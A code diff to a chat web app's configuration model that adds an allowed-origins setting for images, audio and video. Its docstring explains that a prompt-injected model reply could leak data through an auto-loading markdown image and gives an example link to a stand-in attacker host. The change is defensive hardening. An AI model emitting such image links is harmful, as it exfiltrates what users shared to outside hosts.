@@ -13,7 +13,7 @@ from pydantic import BaseModel, ConfigDict, Field, PrivateAttr, field_validator
 
 from chatserve.inputs import Accordion, AdditionalInput
 from chatserve.outputs import AdditionalOutput
-from chatserve.settings import ServerConfig
+from chatserve.settings import ServerConfig, web_origin
 from chatserve.sizes import ByteSize, parse_size
 from chatserve.source import Source
 from chatserve.theme import THEMES, CustomTheme
@@ -240,6 +240,13 @@ class Config(Model):
     head_paths: list[str] = []
     """HTML files (relative to the config) added to `<head>` after `head`."""
 
+    allowed_media_origins: list[str] | None = None
+    """Web origins (`https://images.example.com`) the page may load images, audio and video
+    from, besides the server itself (and the URLs of `avatar_images` and `example_icons`).
+    A reply's image loads as soon as it shows, so a prompt-injected reply can send what it
+    read to any host it names (`![](https://evil.example/?q=...)`). Null: any http(s) host;
+    `[]`: only the server's own files and `data:` images."""
+
     fill_height: bool = True
     """The chat fills the window's height; `false` lets the page grow and scroll."""
 
@@ -321,6 +328,11 @@ class Config(Model):
     """Server settings."""
 
     _source: Source | None = PrivateAttr(default=None)
+
+    @field_validator("allowed_media_origins")
+    @classmethod
+    def _media_origins(cls, value: list[str] | None) -> list[str] | None:
+        return None if value is None else [web_origin(origin) for origin in value]
 
     @field_validator("css_paths", "head_paths", mode="before")
     @classmethod
